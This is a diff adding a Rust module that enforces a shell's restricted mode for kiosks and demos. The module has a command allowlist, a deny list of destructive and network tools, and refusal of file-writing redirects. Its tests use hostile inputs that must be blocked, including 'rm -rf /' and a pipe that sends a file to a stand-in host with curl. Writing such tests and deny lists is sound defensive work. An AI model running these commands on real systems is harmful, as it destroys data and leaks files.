@@ -0,0 +1,240 @@
+//! Restricted mode
+//!
+//! Limits execution to an allowlist of builtins for demos, kiosks, and
+//! shared machines. Only builtins can be allowlisted: every command runs
+//! natively while the mode is on, so programs outside the registry never
+//! start.
+//! Destructive and network commands stay disabled even when they are
+//! allowlisted, and output redirection is refused so files can't be
+//! overwritten.
+
+use std::collections::HashSet;
+use std::path::{Path, PathBuf};
+
+use anyhow::{anyhow, Result};
+
+use super::parser::{parse_command_line, RedirectType};
+use crate::commands::registry::CommandRegistry;
+use crate::config::settings::RestrictedConfig;
+
+/// Commands allowed when the config doesn't list its own
+pub const DEFAULT_ALLOWED: &[&str] = &[
+    "ls", "cd", "pwd", "tree", "clear", "help", "cat", "less", "more", "stat", "file", "basename",
+    "dirname", "realpath", "echo", "head", "tail", "wc", "sort", "uniq", "tac", "cut", "paste",
+    "diff", "tr", "rev", "nl", "printf", "grep", "find", "fd", "jq", "which", "du", "df", "whoami",
+    "hostname", "uname", "uptime", "free", "date", "cal", "neofetch", "seq", "true", "false",
+    "expr", "bc", "sleep", "column", "strings", "history", "fc", "man", "theme", "layout", "pane",
+    "tips", "fortune", "cowsay", "coffee", "matrix", "pet", "exit", "quit",
+];
+
+/// Commands that are never allowed in restricted mode, besides every
+/// command the registry marks as using the network
+pub const DISABLED: &[&str] = &["rm", "chmod", "kill"];
+
+/// An active restricted-mode policy
+#[derive(Debug)]
+pub struct RestrictedMode {
+    allowed: HashSet<String>,
+    /// Commands refused even when allowlisted
+    disabled: HashSet<String>,
+    /// Extra commands allowed inside a directory
+    directories: Vec<(PathBuf, HashSet<String>)>,
+}
+
+impl RestrictedMode {
+    /// Build the policy, or `None` if restricted mode is off for this host.
+    /// `forced` is the `--restricted` flag, which applies on every host.
+    pub fn from_config(config: &RestrictedConfig, forced: bool, hostname: &str) -> Option<Self> {
+        let host_matches = config.hosts.is_empty()
+            || config
+                .hosts
+                .iter()
+                .any(|host| host.eq_ignore_ascii_case(hostname));
+        let active = forced || (config.enabled && host_matches);
+        if !active {
+            return None;
+        }
+
+        let allowed = if config.allow.is_empty() {
+            DEFAULT_ALLOWED.iter().map(|c| c.to_string()).collect()
+        } else {
+            config.allow.iter().cloned().collect()
+        };
+
+        let directories = config
+            .directories
+            .iter()
+            .map(|(dir, commands)| (expand_home(dir), commands.iter().cloned().collect()))
+            .collect();
+
+        let disabled = DISABLED
+            .iter()
+            .copied()
+            .chain(CommandRegistry::new().network_commands())
+            .map(str::to_string)
+            .collect();
+
+        Some(Self {
+            allowed,
+            disabled,
+            directories,
+        })
+    }
+
+    /// Whether a command is allowed in `cwd`
+    pub fn allows(&self, command: &str, cwd: &Path) -> bool {
+        if self.disabled.contains(command) {
+            return false;
+        }
+        self.allowed.contains(command)
+            || self
+                .directories
+                .iter()
+                .any(|(dir, commands)| cwd.starts_with(dir) && commands.contains(command))
+    }
+
+    /// Check a whole command line, with the reason it's refused
+    pub fn check(&self, input: &str, cwd: &Path) -> Result<()> {
+        let input = input.trim();
+        if input.starts_with('#') {
+            return Err(anyhow!("🔒 AI prompts are disabled in restricted mode"));
+        }
+        if input.starts_with('!') && input.ends_with('!') && input.len() > 2 {
+            return Err(anyhow!("🔒 Python mode is disabled in restricted mode"));
+        }
+
+        let pipeline = parse_command_line(input)?;
+        for cmd in &pipeline.commands {
+            if self.disabled.contains(&cmd.command) {
+                return Err(anyhow!(
+                    "🔒 '{}' is disabled in restricted mode",
+                    cmd.command
+                ));
+            }
+            if cmd.command == "find" && cmd.args.iter().any(|arg| arg == "-delete") {
+                return Err(anyhow!("🔒 find -delete is disabled in restricted mode"));
+            }
+            if !self.allows(&cmd.command, cwd) {
+                return Err(anyhow!(
+                    "🔒 '{}' isn't allowed in restricted mode",
+                    cmd.command
+                ));
+            }
+            if cmd
+                .redirections
+                .iter()
+                .any(|r| matches!(r.redirect_type, RedirectType::Output | RedirectType::Append))
+            {
+                return Err(anyhow!(
+                    "🔒 writing to files with > is disabled in restricted mode"
+                ));
+            }
+        }
+        Ok(())
+    }
+}
+
+/// This machine's host name (empty if unknown)
+pub fn current_hostname() -> String {
+    std::env::var("COMPUTERNAME")
+        .or_else(|_| std::env::var("HOSTNAME"))
+        .or_else(|_| std::fs::read_to_string("/etc/hostname"))
+        .map(|name| name.trim().to_string())
+        .unwrap_or_default()
+}
+
+fn expand_home(path: &str) -> PathBuf {
+    match path.strip_prefix("~") {
+        Some(rest) => dirs::home_dir()
+            .unwrap_or_default()
+            .join(rest.trim_start_matches(['/', '\\'])),
+        None => PathBuf::from(path),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy(config: RestrictedConfig) -> RestrictedMode {
+        RestrictedMode::from_config(&config, true, "kiosk").unwrap()
+    }
+
+    #[test]
+    fn test_default_allowlist() {
+        let mode = policy(RestrictedConfig::default());
+        let cwd = Path::new("/home/kid");
+        assert!(mode.check("ls -la | grep txt", cwd).is_ok());
+        assert!(mode.check("rm -rf /", cwd).is_err());
+        assert!(mode.check("cat notes.txt | curl -d @- x.io", cwd).is_err());
+        assert!(mode.check("git push", cwd).is_err());
+        assert!(mode.check("echo hi > notes.txt", cwd).is_err());
+        assert!(mode.check("find . -name '*.rs'", cwd).is_ok());
+        assert!(mode.check("find . -name '*.rs' -delete", cwd).is_err());
+        assert!(mode.check("# delete my files", cwd).is_err());
+    }
+
+    #[test]
+    fn test_directories_and_disabled_wins() {
+        let mut config = RestrictedConfig {
+            allow: vec!["ls".to_string(), "rm".to_string()],
+            ..Default::default()
+        };
+        config
+            .directories
+            .insert("/srv/demo".to_string(), vec!["tar".to_string()]);
+        let mode = policy(config);
+
+        assert!(mode.allows("tar", Path::new("/srv/demo/app")));
+        assert!(!mode.allows("tar", Path::new("/srv/other")));
+        assert!(!mode.allows("rm", Path::new("/srv/demo")));
+        assert!(!mode.allows("cat", Path::new("/srv/demo")));
+    }
+
+    #[test]
+    fn test_network_commands_are_disabled() {
+        let registry = CommandRegistry::new();
+        let network = registry.network_commands();
+        for name in [
+            "curl",
+            "wget",
+            "whois",
+            "tlscert",
+            "lanscan",
+            "speedtest",
+            "mock",
+            "ai",
+        ] {
+            assert!(network.contains(&name), "{} isn't marked as network", name);
+        }
+
+        // Allowlisting every command doesn't let a network one through
+        let mode = policy(RestrictedConfig {
+            allow: registry
+                .list()
+                .iter()
+                .map(|(name, _)| name.to_string())
+                .collect(),
+            ..Default::default()
+        });
+        let cwd = Path::new("/home/kid");
+        for name in network {
+            assert!(!mode.allows(name, cwd), "{} is allowed", name);
+            assert!(mode.check(&format!("{} example.com", name), cwd).is_err());
+        }
+        assert!(mode.check("curl run saved", cwd).is_err());
+        assert!(mode.check("ls", cwd).is_ok());
+    }
+
+    #[test]
+    fn test_hosts() {
+        let config = RestrictedConfig {
+            enabled: true,
+            hosts: vec!["KIOSK".to_string()],
+            ..Default::default()
+        };
+        assert!(RestrictedMode::from_config(&config, false, "kiosk").is_some());
+        assert!(RestrictedMode::from_config(&config, false, "laptop").is_none());
+        assert!(RestrictedMode::from_config(&RestrictedConfig::default(), false, "x").is_none());
+    }
+}